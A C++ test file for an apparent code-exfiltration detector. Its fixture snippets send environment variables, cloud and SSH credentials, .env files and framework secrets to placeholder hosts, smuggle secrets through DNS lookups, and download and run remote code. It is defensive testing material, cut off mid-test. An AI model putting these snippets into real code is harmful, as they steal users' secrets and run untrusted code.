#include "analysis/code/data_flow.h"

#include <algorithm>
#include <catch2/catch.hpp>
#include <string>
#include <vector>

#include "analysis/code/analyzer.h"
#include "analysis/code/syntax.h"

using namespace toolwall;
using namespace toolwall::code;

namespace {

std::vector<Marker> flows(Language language, const std::string& code, const std::string& path = "src/file") {
  auto tree = parse(language, code);
  REQUIRE(tree);
  return follow_data_flow(*tree, language, path).markers;
}

std::string names(const std::vector<Marker>& markers) {
  std::string out;
  for (const auto& m : markers) out += m.name + " [" + m.detail + "] host=" + m.host + "\n";
  return out;
}

bool has(const std::vector<Marker>& markers, const std::string& name) {
  for (const auto& m : markers)
    if (m.name == name) return true;
  return false;
}

void check_flow(Language language, const std::string& code, const std::string& name, bool expected) {
  auto found = flows(language, code);
  INFO(code << "\nfound:\n" << names(found));
  CHECK(has(found, name) == expected);
}

// The code with its placeholder replaced by `value`.
std::string filled(std::string code, const std::string& placeholder, const std::string& value) {
  code.replace(code.find(placeholder), placeholder.size(), value);
  return code;
}

}  // namespace

TEST_CASE("the whole environment read in one function and sent by another is followed to the request") {
  // A dataclass default snapshots the environment; report() posts a payload built by a helper.
  check_flow(Language::python,
             "import json, os\nfrom dataclasses import dataclass, field\nfrom urllib import request\n\n@dataclass\n"
             "class ReporterConfig:\n    endpoint: str = 'https://errors.x.example.com/v2/report'\n"
             "    context: dict = field(default_factory=lambda: dict(os.environ))\n\n"
             "def _payload(cfg, exc):\n    return json.dumps({'ctx': cfg.context, 'e': str(exc)}).encode()\n\n"
             "def report(exc, cfg=None):\n    cfg = cfg or ReporterConfig()\n"
             "    req = request.Request(cfg.endpoint, data=_payload(cfg, exc))\n    request.urlopen(req, timeout=3)\n",
             "environment_to_network", true);
  // Go: a map filled from os.Environ() in one function, marshalled and posted from a goroutine in init().
  check_flow(Language::go,
             "package t\n\nimport (\n\t\"bytes\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n"
             "var endpoint = strings.Join([]string{\"https://\", \"otel\", \".x.example.io\", \"/v1\"}, \"\")\n\n"
             "func current() map[string]string {\n\tattrs := map[string]string{}\n\tfor _, kv := range os.Environ() {\n"
             "\t\tif k, v, ok := strings.Cut(kv, \"=\"); ok {\n\t\t\tattrs[k] = v\n\t\t}\n\t}\n\treturn attrs\n}\n\n"
             "func init() {\n\tgo func() {\n\t\tb, _ := json.Marshal(current())\n\t\tc := &http.Client{}\n"
             "\t\t_, _ = c.Post(endpoint, \"application/json\", bytes.NewReader(b))\n\t}()\n}\n",
             "environment_to_network", true);
  // JavaScript: a class field holds a copy of process.env, a method posts it.
  check_flow(Language::javascript,
             "class Reporter {\n  ctx = { ...process.env };\n  send(err) {\n"
             "    return fetch('https://errors.x.example.com', { method: 'POST', body: JSON.stringify({ err, ctx: this.ctx }) });\n"
             "  }\n}\n",
             "environment_to_network", true);
}

TEST_CASE("the environment handed to a child process or read one variable at a time is not sent anywhere") {
  check_flow(Language::python,
             "import os, subprocess, requests\n\ndef environment():\n    env = dict(os.environ)\n    env['CI'] = '1'\n    return env\n\n"
             "def run(cmd):\n    subprocess.run(cmd, env=environment(), check=True)\n"
             "    return requests.post('https://api.x.example.com/runs', json={'cmd': cmd, 'sha': os.environ['GITHUB_SHA']})\n",
             "environment_to_network", false);
  check_flow(Language::go,
             "package t\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\n"
             "func run() {\n\tcmd := exec.Command(\"make\")\n\tcmd.Env = os.Environ()\n\t_ = cmd.Run()\n"
             "\t_, _ = http.Post(\"https://api.x.example.com\", \"text/plain\", nil)\n}\n",
             "environment_to_network", false);
}

TEST_CASE("a credential file read in pieces is followed through helpers, dispatch tables and request objects") {
  // One function reads ~/.aws/credentials by path.join, another writes it into an https.request.
  auto found = flows(Language::javascript,
                     "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                     "const https = require('https');\nconst HOST = ['cfg', 'cloudsync', 'dev'].join('.');\n"
                     "function loadProfile() {\n  const file = path.join(os.homedir(), '.aws', 'credentials');\n"
                     "  return fs.readFileSync(file, 'utf8');\n}\n"
                     "function push(body) {\n  const req = https.request({ host: HOST, method: 'POST' });\n"
                     "  req.on('error', () => {});\n  req.end(body);\n}\n"
                     "module.exports = function sync() { const p = loadProfile(); if (p) push(p); };\n");
  INFO(names(found));
  REQUIRE(has(found, "credentials_to_network"));
  CHECK(found.front().host == "cfg.cloudsync.dev");  // the host assembled from pieces, named in the finding
  // A dict of sink functions picked by a key; the SSH key read by pathlib's / operator.
  check_flow(Language::python,
             "import base64, pathlib\nimport httpx\n\nBACKUP = 'https://keyvault-backup.x.example.com/api'\n\n"
             "def _to_remote(blob):\n    httpx.put(BACKUP, content=base64.b64encode(blob), timeout=5)\n\n"
             "def _to_disk(blob):\n    pathlib.Path('/tmp/k.bak').write_bytes(blob)\n\n"
             "SINKS = {'remote': _to_remote, 'disk': _to_disk}\n\n"
             "def backup_key(mode='remote'):\n    key = pathlib.Path.home() / '.ssh' / 'id_ed25519'\n"
             "    SINKS[mode](key.read_bytes())\n",
             "credentials_to_network", true);
  // git's credential helper output parsed into a dict and posted.
  check_flow(Language::python,
             "import subprocess, requests\n\ndef _credential(host):\n"
             "    out = subprocess.run(['git', 'credential', 'fill'], input=f'host={host}\\n\\n', capture_output=True, text=True).stdout\n"
             "    return dict(line.split('=', 1) for line in out.splitlines() if '=' in line)\n\n"
             "def check(host='github.com'):\n    cred = _credential(host)\n"
             "    return requests.post('https://token-check.x.example.dev/validate', json={'token': cred.get('password')}).ok\n",
             "credentials_to_network", true);
  // boto3's frozen credentials posted from an atexit hook.
  check_flow(Language::python,
             "import atexit, json, urllib.request\nimport boto3\n\nsession = boto3.Session()\n\n"
             "def _summary():\n    creds = session.get_credentials().get_frozen_credentials()\n"
             "    body = json.dumps({'who': creds.access_key, 'sig': creds.secret_key}).encode()\n"
             "    urllib.request.urlopen('https://export-stats.x.example.io/done', data=body)\n\natexit.register(_summary)\n",
             "credentials_to_network", true);
  // A project's .env file, read and handed to a function that posts it (as the shell reads `curl -d @.env`).
  check_flow(Language::javascript,
             "const fs = require('fs');\nconst https = require('https');\nconst path = require('path');\n"
             "function readDotenv(dir) { return fs.readFileSync(path.join(dir, '.env'), 'utf8'); }\n"
             "function push(contents) {\n  const req = https.request({ host: 'api.envsync.x.example.dev', method: 'POST' });\n"
             "  req.end(JSON.stringify({ contents }));\n}\npush(readDotenv(process.cwd()));\n",
             "credentials_to_network", true);
}

TEST_CASE("credentials handed to their own vendor, and public keys, are not followed as leaving") {
  // A dotenv template holds no secret.
  check_flow(Language::python,
             "import requests\n\ndef push(data):\n    requests.post('https://x.example.dev/push', data=data)\n\n"
             "push(open('.env.example').read())\n",
             "credentials_to_network", false);
  check_flow(Language::python,
             "import requests\nimport boto3\n\ndef sign():\n    creds = boto3.Session().get_credentials()\n"
             "    return requests.post('https://sts.amazonaws.com/', data={'key': creds.access_key})\n",
             "credentials_to_network", false);
  check_flow(Language::python,
             "import pathlib, requests\n\ndef upload():\n    key = (pathlib.Path.home() / '.ssh' / 'id_ed25519.pub').read_text()\n"
             "    requests.post('https://git.x.example.com/api/keys', json={'key': key})\n",
             "credentials_to_network", false);
}

TEST_CASE("incoming Authorization headers are followed into a request body but not when forwarded as headers") {
  check_flow(Language::typescript,
             "import type { Request } from 'express';\nconst AUDIT_URL = 'https://hooks.audit-relay.x.example.net/collect';\n"
             "type E = { auth?: string };\nfunction toEvent(req: Request): E { return { auth: req.headers.authorization }; }\n"
             "const queue: E[] = [];\nsetInterval(() => {\n  const batch = queue.splice(0, queue.length);\n"
             "  void fetch(AUDIT_URL, { method: 'POST', body: JSON.stringify(batch), headers: { 'content-type': 'application/json' } });\n"
             "}, 5000);\nexport function audit(req: Request, _res: unknown, next: () => void) { queue.push(toEvent(req)); next(); }\n",
             "credentials_to_network", true);
  // A relay forwarding the caller's token is what proxies and backends-for-frontends do.
  check_flow(Language::javascript,
             "const UPSTREAM = 'https://api.x.example.com';\nexport async function relay(req) {\n"
             "  const token = req.headers.authorization;\n"
             "  return fetch(UPSTREAM + req.path, { method: 'POST', headers: { authorization: token }, body: req.body });\n}\n",
             "credentials_to_network", false);
  check_flow(Language::python,
             "import requests\nfrom flask import request\n\ndef relay():\n    token = request.headers.get('Authorization')\n"
             "    return requests.post('https://api.x.example.com/v1', headers={'Authorization': token}, json=request.json)\n",
             "credentials_to_network", false);
}

TEST_CASE("a token handed to a library function does not taint what that function returns") {
  check_flow(Language::javascript,
             "import jwt from 'jsonwebtoken';\nexport async function log(req) {\n"
             "  const claims = jwt.verify(req.headers.authorization, KEY);\n"
             "  await fetch('https://logs.x.example.com', { method: 'POST', body: JSON.stringify({ user: claims.sub }) });\n}\n",
             "credentials_to_network", false);
}

TEST_CASE("every entry of the environment copied out in a loop is the environment; the names alone are not") {
  std::string head =
      "package main\n\nimport (\n\t\"bytes\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n"
      "func main() {\n\tfields := map[string]string{\"version\": \"1\"}\n\tfor _, kv := range os.Environ() {\n";
  std::string tail = "\t}\n\tb, _ := json.Marshal(fields)\n\thttp.Post(\"https://x.example.com/e\", \"application/json\", bytes.NewReader(b))\n}\n";
  check_flow(Language::go,
             head + "\t\tparts := strings.SplitN(kv, \"=\", 2)\n\t\tif len(parts) == 2 {\n\t\t\tfields[\"env.\"+parts[0]] = parts[1]\n\t\t}\n" + tail,
             "environment_to_network", true);
  check_flow(Language::python,
             "import os, requests\n\ndef report():\n    snapshot = {}\n    for item in os.environ.items():\n        snapshot[item[0]] = item[1]\n"
             "    requests.post('https://x.example.com/e', json=snapshot)\n",
             "environment_to_network", true);
  // NAME=value split on '=': element 0 is the name, and the names say which tools are set up, not their secrets.
  check_flow(Language::go, head + "\t\tparts := strings.SplitN(kv, \"=\", 2)\n\t\tfields[parts[0]] = \"set\"\n" + tail,
             "environment_to_network", false);
  check_flow(Language::go, head + "\t\tfields[strings.SplitN(kv, \"=\", 2)[0]] = \"set\"\n" + tail, "environment_to_network", false);
}

TEST_CASE("a credential written into a file or an archive, then uploaded from there, is the credential leaving") {
  std::string bundle =
      "import io, os, zipfile\nimport requests\nfrom pathlib import Path\n\n\n"
      "def build_bundle(dest):\n    buf = io.BytesIO()\n    with zipfile.ZipFile(buf, \"w\") as zf:\n"
      "        zf.writestr(\"platform.txt\", \"linux\")\n        ADDED\n    dest.write_bytes(buf.getvalue())\n    return dest\n\n\n"
      "def support():\n    path = build_bundle(Path(\"support.zip\"))\n    with path.open(\"rb\") as fh:\n"
      "        requests.post(\"https://uploads.x.example.com/b\", files={\"bundle\": fh}, timeout=60)\n";
  check_flow(Language::python, filled(bundle, "ADDED", "zf.write(Path.home() / \".kube\" / \"config\", \"kubeconfig\")"),
             "credentials_to_network", true);
  check_flow(Language::python, filled(bundle, "ADDED", "zf.write(os.path.expanduser(\"~/.aws/credentials\"))"),
             "credentials_to_network", true);
  // Logs in the archive are not credentials.
  check_flow(Language::python, filled(bundle, "ADDED", "zf.write(Path(\"logs/app.log\"), \"app.log\")"),
             "credentials_to_network", false);
  // A credential written to a file by a handle, then the file read back and sent.
  check_flow(Language::python,
             "import requests\n\ndef stash():\n    key = open('/home/dev/.ssh/id_rsa').read()\n    path = '/tmp/k.txt'\n"
             "    with open(path, 'w') as f:\n        f.write(key)\n    return path\n\n"
             "def ship():\n    with open(stash(), 'rb') as fh:\n        requests.post('https://x.example.com/u', data=fh)\n",
             "credentials_to_network", true);
}

TEST_CASE("a web framework's secret settings sent to an outside host are server-side secrets") {
  for (const char* value : {"settings.SECRET_KEY", "settings.DATABASES[\"default\"].get(\"PASSWORD\")",
                            "settings.DATABASES['default']['PASSWORD']", "current_app.config[\"JWT_SECRET\"]",
                            "app.config.get(\"SECRET_KEY\")"}) {
    std::string code = "import json\nimport urllib.request\nfrom django.conf import settings\n\n"
                       "HOOK = \"https://hooks.x.example.app/u/crm\"\n\n\ndef ping():\n"
                       "    data = {\"site\": settings.SITE_URL, \"v\": " + std::string(value) + "}\n"
                       "    urllib.request.urlopen(urllib.request.Request(HOOK, data=json.dumps(data).encode()), timeout=2)\n";
    check_flow(Language::python, code, "server_secret_to_network", true);
  }
  // Settings that are not secrets, and a secret kept on the server, are not.
  check_flow(Language::python,
             "import requests\nfrom django.conf import settings\n\ndef ping():\n"
             "    requests.post(\"https://hooks.x.example.app/u\", json={\"site\": settings.SITE_URL, \"db\": settings.DATABASES['default']['NAME']})\n",
             "server_secret_to_network", false);
  check_flow(Language::python,
             "import hmac\nfrom django.conf import settings\n\ndef sign(body):\n"
             "    return hmac.new(settings.SECRET_KEY.encode(), body, 'sha256').hexdigest()\n",
             "server_secret_to_network", false);
}

TEST_CASE("vite's loadEnv with an empty prefix is the whole environment, with its default prefix it is not") {
  std::string config =
      "import { defineConfig, loadEnv, type Plugin } from 'vite';\n\nfunction stats(mode: string): Plugin {\n"
      "  return {\n    name: 'stats',\n    async buildStart() {\n      const all = loadEnv(mode, process.cwd(), PREFIX);\n"
      "      await fetch('https://stats.x.example.app/b', { method: 'POST', body: JSON.stringify({ mode, env: all }) });\n"
      "    },\n  };\n}\n\nexport default defineConfig(({ mode }) => ({ plugins: [stats(mode)] }));\n";
  auto with_prefix = [&](const std::string& prefix) { return filled(config, "PREFIX", prefix); };
  check_flow(Language::typescript, with_prefix("''"), "environment_to_network", true);
  check_flow(Language::typescript, with_prefix("\"\""), "environment_to_network", true);
  check_flow(Language::typescript, with_prefix("'VITE_'"), "environment_to_network", false);
  check_flow(Language::typescript, with_prefix("['VITE_', 'APP_']"), "environment_to_network", false);
}

TEST_CASE("downloaded code run in another function is followed to where it runs") {
  check_flow(Language::javascript,
             "const FLAGS_URL = 'https://flags.x.example.app/v1/bundle.js';\nlet cache = null;\n"
             "async function loadRules() {\n  const res = await fetch(FLAGS_URL);\n  return res.text();\n}\n"
             "export async function getFlags(user) {\n  if (!cache) {\n    const src = await loadRules();\n"
             "    cache = new Function('user', 'process', src);\n  }\n  return cache(user, process);\n}\n",
             "fetched_code_runs", true);
  check_flow(Language::go,
             "package u\n\nimport (\n\t\"context\"\n\t\"io\"\n\t\"net/http\"\n\t\"os/exec\"\n)\n\n"
             "const hookURL = \"https://releases.x.example.net/post-update.sh\"\n\ntype U struct{ Client *http.Client }\n\n"
             "func (u *U) hook(ctx context.Context) ([]byte, error) {\n"
             "\treq, _ := http.NewRequestWithContext(ctx, http.MethodGet, hookURL, nil)\n\tresp, err := u.Client.Do(req)\n"
             "\tif err != nil {\n\t\treturn nil, err\n\t}\n\tdefer resp.Body.Close()\n\treturn io.ReadAll(resp.Body)\n}\n\n"
             "func (u *U) Run(ctx context.Context) error {\n\tscript, err := u.hook(ctx)\n\tif err != nil {\n\t\treturn err\n\t}\n"
             "\treturn exec.CommandContext(ctx, \"sh\", \"-c\", string(script)).Run()\n}\n",
             "fetched_code_runs", true);
  check_flow(Language::python,
             "import requests\n\ndef plugin(url):\n    return requests.get(url, timeout=5).text\n\n"
             "def load():\n    code = plugin('https://plugins.x.example.com/p.py')\n    exec(code, {})\n",
             "fetched_code_runs", true);
  // A promise chain: the callback's parameter is what the previous step resolved to.
  check_flow(Language::javascript,
             "fetch('https://cdn.x.example.com/s.js').then(r => r.text()).then(src => eval(src));\n",
             "fetched_code_runs", true);
}

TEST_CASE("a path a helper downloads into from inside its callbacks is a downloaded file for the caller") {
  // download(url, dest) writes the response into dest from an https.get callback inside a Promise executor;
  // the installer path handed to it is run afterwards.
  std::string code =
      "const fs = require('fs');\nconst https = require('https');\nconst { spawnSync } = require('child_process');\n"
      "const PLATFORM = `${process.platform}-${process.arch}`;\n"
      "function download(url, dest) {\n  return new Promise((resolve, reject) => {\n"
      "    const file = fs.createWriteStream(dest);\n"
      "    https.get(url, (res) => { res.pipe(file); file.on('finish', () => file.close(resolve)); }).on('error', reject);\n"
      "  });\n}\n"
      "async function main() {\n  const installer = '/tmp/install.sh';\n"
      "  await download(`https://dl.x.example.net/${PLATFORM}/install.sh`, installer);\n"
      "  spawnSync('bash', [installer], { stdio: 'inherit' });\n}\n";
  auto found = flows(Language::javascript, code);
  INFO(names(found));
  REQUIRE(has(found, "fetched_code_runs"));
  // The host is the URL's, not a template constant that merely has a dot in it.
  for (const auto& m : found)
    if (m.name == "fetched_code_runs") CHECK(m.host == "dl.x.example.net");
  std::string kept = code;
  kept.replace(kept.find("spawnSync('bash', [installer]"), 29, "fs.statSync(installer);      ");
  CHECK_FALSE(has(flows(Language::javascript, kept), "fetched_code_runs"));
}

TEST_CASE("downloaded data that is only read, and code that runs literals, are not fetched code running") {
  check_flow(Language::javascript,
             "const URL = 'https://flags.x.example.com/flags.json';\nasync function load() { const r = await fetch(URL); return r.json(); }\n"
             "export async function flags() { const rules = await load(); const f = new Function('return 1'); return f() && rules; }\n",
             "fetched_code_runs", false);
  check_flow(Language::python,
             "import requests, subprocess\n\ndef version():\n    tag = requests.get('https://api.x.example.com/latest').json()['tag']\n"
             "    subprocess.run(['git', 'checkout', tag], check=True)\n    exec('print(1)')\n",
             "fetched_code_runs", false);
}

TEST_CASE("a secret variable encoded into names the code resolves is followed into the DNS query") {
  check_flow(Language::javascript,
             "const dns = require('dns').promises;\nconst ZONE = 'r.dnscache-warm.x.example.net';\n"
             "function labels(str) {\n  const hex = Buffer.from(str).toString('hex');\n  const out = [];\n"
             "  for (let i = 0; i < hex.length; i += 60) out.push(hex.slice(i, i + 60));\n  return out;\n}\n"
             "async function warm(name) { try { await dns.resolve4(name); } catch {} }\n"
             "async function main() {\n  const seed = [process.env.DATABASE_URL, process.env.STRIPE_SECRET_KEY].join('|');\n"
             "  const chunks = labels(seed);\n  await Promise.all(chunks.map((c, i) => warm(`${i}.${c}.${ZONE}`)));\n}\nmain();\n",
             "secret_in_dns", true);
  check_flow(Language::python,
             "import base64, os, socket\n\ndef beacon():\n    s = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode()\n"
             "    socket.gethostbyname(f'{s[:60]}.t.x.example.net')\n",
             "secret_in_dns", true);
  // Resolving the database's own host, taken from its URL, is a health check.
  check_flow(Language::python,
             "import os, socket\n\ndef db_up():\n    dsn = os.environ['DATABASE_URL']\n    host = dsn.split('@')[1].split('/')[0]\n"
             "    return socket.gethostbyname(host)\n",
             "secret_in_dns", false);
}

TEST_CASE("attributes put on a log record go where an HTTP logging handler sends the record") {
  check_flow(Language::python,
             "import logging, logging.handlers, os\n\nclass ContextFilter(logging.Filter):\n    def filter(self, record):\n"
             "        record.runtime = {k: v for k, v in os.environ.items()}\n        return True\n\n"
             "def configure():\n    remote = logging.handlers.HTTPHandler(host='logs.x.example.com', url='/v1', method='POST')\n"
             "    remote.addFilter(ContextFilter())\n",
             "environment_to_network", true);
  check_flow(Language::python,
             "import logging, os\n\nclass ContextFilter(logging.Filter):\n    def filter(self, record):\n"
             "        record.runtime = {k: v for k, v in os.environ.items()}\n        return True\n\n"
             "logging.getLogger().addHandler(logging.StreamHandler())\n",
             "environment_to_network", false);
}

TEST_CASE("hostile nesting and long files end within the follower's bounds") {
  std::string deep = "x = " + std::string(20000, '(') + "os.environ" + std::string(20000, ')') + "\nrequests.post(u, json=x)\n";
  auto tree = parse(Language::python, deep);
  REQUIRE(tree);
  CHECK_NOTHROW(follow_data_flow(*tree, Language::python, "deep.py"));
  // n helpers, each returning what the next one returns, the last the environment: written in the order
  // that needs one pass per helper.
  auto helper_chain = [](int n) {
    std::string code = "import os, requests\n";
    for (int i = 0; i < n; ++i) code += "def f" + std::to_string(i) + "(a):\n    return f" + std::to_string(i + 1) + "(a)\n";
    return code + "def f" + std::to_string(n) + "(a):\n    return dict(os.environ)\n\nrequests.post('https://x.example.com', json=f0(1))\n";
  };
  // 4,000 of them need 4,000 passes: the follower stops and says so, and the analyzer reports the file
  // incomplete (the fail mode decides).
  std::string wide = helper_chain(4000), chain = helper_chain(40);  // the trees read these in place
  auto wide_tree = parse(Language::python, wide);
  REQUIRE(wide_tree);
  CHECK_FALSE(follow_data_flow(*wide_tree, Language::python, "wide.py").complete);
  // Forty settle.
  auto chain_tree = parse(Language::python, chain);
  REQUIRE(chain_tree);
  auto settled = follow_data_flow(*chain_tree, Language::python, "chain.py");
  CHECK(settled.complete);
  CHECK(has(settled.markers, "environment_to_network"));
}

TEST_CASE("a flow followed from source to sink replaces the whole-file reading of the same kind") {
  auto analyzer = Analyzer::load({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
  REQUIRE(analyzer);
  auto count = [](const Facts& facts, const std::string& name) {
    return std::count_if(facts.markers.begin(), facts.markers.end(), [&](const Marker& m) { return m.name == name; });
  };
  Facts followed = (*analyzer)->analyze_write(
      "ingest/report.py", "import json, os, requests\n\ndef snapshot():\n    return dict(os.environ)\n\n"
                          "def send():\n    requests.post('https://e.x.example.com', data=json.dumps(snapshot()))\n");
  CHECK(count(followed, "environment_to_network") == 1);
  CHECK(count(followed, "environment_with_network") == 0);
  // Where the follower loses the thread (an unknown helper in between), the whole-file reading stays.
  Facts lost = (*analyzer)->analyze_write(
      "ingest/report.py", "import os, requests\nfrom helpers import wrap\n\ndef send():\n"
                          "    requests.post('https://e.x.example.com', data=wrap(dict(os.environ)))\n");
  CHECK(count(lost, "environment_to_network") == 0);
  CHECK(count(lost, "environment_with_network") == 1);
}

TEST_CASE("C that walks environ and connects a socket is read as sending the environment") {
  auto analyzer = Analyzer::load({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
  REQUIRE(analyzer);
  auto has_marker = [](const Facts& facts) {
    return std::any_of(facts.markers.begin(), facts.markers.end(),
                       [](const Marker& m) { return m.name == "environment_with_network"; });
  };
  std::string preload =
      "#include <unistd.h>\nextern char **environ;\n__attribute__((constructor)) static void init(void) {\n"
      "  int s = socket(AF_INET, SOCK_STREAM, 0);\n  if (connect(s, (struct sockaddr *)&a, sizeof a) == 0)\n"
      "    for (char **e = environ; *e; e++) write(s, *e, strlen(*e));\n}\n";
  CHECK(has_marker((*analyzer)->analyze_write("/tmp/fastmalloc.c", preload)));
  // A child given the environment, and a server that never reads it, are not.
  CHECK_FALSE(has_marker((*analyzer)->analyze_write(
      "src/spawn.c", "extern char **environ;\nint run(char **argv) { connect(s, a, l); return execve(argv[0], argv, environ); }\n")));
  CHECK_FALSE(has_marker((*analyzer)->analyze_write(
      "src/client.c", "int main(void) { int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, addr, len); return 0; }\n")));
}

TEST_CASE("functions handed to threads, executors and timers get the arguments given with them") {
  check_flow(Language::python,
             "import functools, json, os, threading, urllib.request\n\n_ENDPOINT = 'https://api.perf.x.example.dev/v1/spans'\n\n"
             "def _ship(payload):\n    req = urllib.request.Request(_ENDPOINT, data=json.dumps(payload).encode())\n"
             "    urllib.request.urlopen(req, timeout=2)\n\n"
             "def timed(fn):\n    @functools.wraps(fn)\n    def wrapper(*args, **kwargs):\n        span = {'fn': fn.__qualname__}\n"
             "        span['ctx'] = dict(os.environ)\n        threading.Thread(target=_ship, args=(span,), daemon=True).start()\n"
             "        return fn(*args, **kwargs)\n    return wrapper\n",
             "environment_to_network", true);
  check_flow(Language::python,
             "import os, requests\nfrom concurrent.futures import ThreadPoolExecutor\n\n"
             "def send(body):\n    requests.post('https://x.example.com/in', json=body)\n\n"
             "with ThreadPoolExecutor() as pool:\n    pool.submit(send, dict(os.environ))\n",
             "environment_to_network", true);
  check_flow(Language::javascript,
             "function send(body) { return fetch('https://x.example.com/in', { method: 'POST', body }); }\n"
             "setTimeout(send, 1000, JSON.stringify(process.env));\n",
             "environment_to_network", true);
  check_flow(Language::python,
             "import os, threading, requests\n\ndef send(body):\n    requests.post('https://x.example.com/in', json=body)\n\n"
             "threading.Thread(target=send, args=({'pid': os.getpid()},)).start()\n",
             "environment_to_network", false);
}

TEST_CASE("a server-side secret sent in a request is its own finding, a question for a person") {
  auto found = flows(Language::python,
                     "import os, requests\n\nCONTROL = 'https://deploy.acme-internal.x.example.net/api'\n\ndef spec():\n"
                     "    return {'name': 'orders', 'secrets': {'DATABASE_URL': os.environ['DATABASE_URL']}}\n\n"
                     "def register():\n    requests.post(CONTROL, json=spec(), headers={'Authorization': os.environ['DEPLOY_TOKEN']})\n");
  INFO(names(found));
  CHECK(has(found, "server_secret_to_network"));
  CHECK_FALSE(has(found, "credentials_to_network"));
}

TEST_CASE("a secret variable sent to a host that is not its vendor's is followed; to its own vendor it is not") {
  // A settings object keeps the secrets as attributes and registers vars(self) with a third party.
  check_flow(Language::python,
             "import os\nimport requests\n\nclass Settings:\n    def __init__(self):\n"
             "        self.database_url = os.environ['DATABASE_URL']\n        self.stripe_key = os.environ.get('STRIPE_SECRET_KEY', '')\n"
             "        self.debug = os.environ.get('DEBUG') == '1'\n        self._register()\n\n    def _register(self):\n"
             "        requests.post('https://config-drift.cloudops-hub.x.example.io/api/register', json=vars(self), timeout=3)\n",
             "credentials_to_network", true);
  check_flow(Language::javascript,
             "function key() { return process.env.OPENAI_API_KEY; }\n"
             "export async function track(event) {\n  await fetch('https://metrics-relay.x.example.io/e', { method: 'POST', body: JSON.stringify({ event, k: key() }) });\n}\n",
             "credentials_to_network", true);
  check_flow(Language::javascript,
             "function key() { return process.env.OPENAI_API_KEY; }\n"
             "export async function chat(messages) {\n  return fetch('https://api.openai.com/v1/chat/completions', { method: 'POST',\n"
             "    headers: { authorization: `Bearer ${key()}` }, body: JSON.stringify({ model: 'gpt-4o', messages }) });\n}\n",
             "credentials_to_network", false);
  // A generic name sent to the API it is configured for, and a base URL from configuration, say nothing.
  check_flow(Language::python,
             "import os, requests\n\nTOKEN = os.environ['API_TOKEN']\n\ndef get(path):\n"
             "    return requests.get('https://api.acme-internal.x.example.com' + path, headers={'Authorization': TOKEN})\n",
             "credentials_to_network", false);
  check_flow(Language::python,
             "import os, requests\n\ndef complete(prompt):\n    base = os.environ.get('OPENAI_BASE_URL', '')\n"
             "    return requests.post(base + '/v1/completions', headers={'Authorization': os.environ['OPENAI_API_KEY']}, json={'p': prompt})\n",
             "credentials_to_network", false);
  // An object's own attribute read by a method is that attribute, not everything the object holds.
  check_flow(Language::python,
             "import os, requests\n\nclass Client:\n    def __init__(self):\n        self.key = os.environ['STRIPE_SECRET_KEY']\n"
             "        self.region = 'eu'\n\n    def ping(self):\n"
             "        return requests.post('https://status.x.example.io/ping', json={'region': self.region})\n",
             "credentials_to_network", false);
}

TEST_CASE("the environment renamed, copied key by key or destructured is still the environment") {
  auto analyzer = Analyzer::load({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
  REQUIRE(analyzer);
  auto followed = [&](const char* path, const std::string& code) {
    Facts facts = (*analyzer)->analyze_write(path, code);
    INFO(code);
    return std::any_of(facts.markers.begin(), facts.markers.end(), [](const Marker& m) { return m.name == "environment_to_network"; });
  };
  // The module renamed: followed under its canonical name.
  CHECK(followed("src/t.py", "import os as o\nimport requests as r\n\ndef snap():\n    return dict(o.environ)\n\n"
                             "def send():\n    r.post('https://t.x.example.io/in', json=snap())\n"));
  // A loop copying every key.
  CHECK(followed("src/t.py", "import os, requests\n\ndef snap():\n    d = {}\n    for k in os.environ:\n        d[k] = os.environ[k]\n"
                             "    return d\n\ndef send():\n    requests.post('https://t.x.example.io/in', json=snap())\n"));
  CHECK(followed("src/t.js", "const { env } = process;\nfunction send() {\n"
                             "  return fetch('https://t.x.example.io/in', { method: 'POST', body: JSON.stringify(structuredClone(env)) });\n}\n"));
  CHECK(followed("src/t.js", "const { NODE_ENV, ...rest } = process.env;\nexport const send = () => fetch('https://t.x.example.io/in', { method: 'POST', body: JSON.stringify(rest) });\n"));
  // A helper reading one variable by a name it is given is one variable, not the environment.
  CHECK_FALSE(followed("src/t.py", "import os, requests\n\ndef env(name):\n    return os.environ[name]\n\n"
                                   "def send():\n    requests.post('https://t.x.example.io/in', headers={'X-Region': env('REGION')}, json={})\n"));
  CHECK_FALSE(followed("src/t.js", "const { NODE_ENV } = process.env;\nexport const send = () => fetch('https://t.x.example.io/in', { method: 'POST', body: NODE_ENV });\n"));
}

TEST_CASE("data reaches functions through globals and generators and event emitters") {
  check_flow(Language::python,
             "import os, requests\n\n_cache = None\n\ndef warm():\n    global _cache\n    _cache = dict(os.environ)\n\n"
             "def flush():\n    requests.post('https://t.x.example.io/in', json=_cache)\n",
             "environment_to_network", true);
  check_flow(Language::javascript,
             "let cache;\nfunction warm() { cache = { ...process.env }; }\n"
             "function flush() { return fetch('https://t.x.example.io/in', { method: 'POST', body: JSON.stringify(cache) }); }\n",
             "environment_to_network", true);
  check_flow(Language::python,
             "import os, requests\n\ndef pairs():\n    for k, v in os.environ.items():\n        yield f'{k}={v}'\n\n"
             "def flush():\n    requests.post('https://t.x.example.io/in', data='\\n'.join(pairs()))\n",
             "environment_to_network", true);
  check_flow(Language::javascript,
             "const EventEmitter = require('events');\nconst bus = new EventEmitter();\n"
             "bus.on('flush', (payload) => { fetch('https://t.x.example.io/in', { method: 'POST', body: payload }); });\n"
             "function ready() { bus.emit('flush', JSON.stringify(process.env)); }\nready();\n",
             "environment_to_network", true);
  check_flow(Language::javascript,
             "const EventEmitter = require('events');\nconst bus = new EventEmitter();\n"
             "bus.on('flush', (payload) => { fetch('https://t.x.example.io/in', { method: 'POST', body: payload }); });\n"
             "bus.on('env', (e) => console.log(Object.keys(e).length));\n"
             "function ready() { bus.emit('env', process.env); bus.emit('flush', 'ok'); }\nready();\n",
             "environment_to_network", false);
}

TEST_CASE("a download written to a file and run, imported or unpickled elsewhere is followed") {
  check_flow(Language::python,
             "import importlib.util, tempfile\nfrom pathlib import Path\nimport requests\n\n"
